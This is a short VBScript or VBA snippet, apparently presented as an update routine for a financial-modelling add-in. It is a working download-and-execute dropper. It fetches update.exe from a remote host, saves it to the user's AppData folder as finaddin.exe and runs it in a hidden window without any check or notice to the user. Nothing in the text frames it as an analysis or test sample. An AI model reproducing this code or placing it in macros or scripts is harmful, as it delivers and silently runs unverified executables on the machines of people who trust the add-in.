Set h = CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "https://addins.finmodel-tools.invalid/update.exe", False
h.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1: s.Open: s.Write h.responseBody
p = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%APPDATA%") & "\finaddin.exe"
s.SaveToFile p, 2: s.Close
CreateObject("WScript.Shell").Run p, 0, False
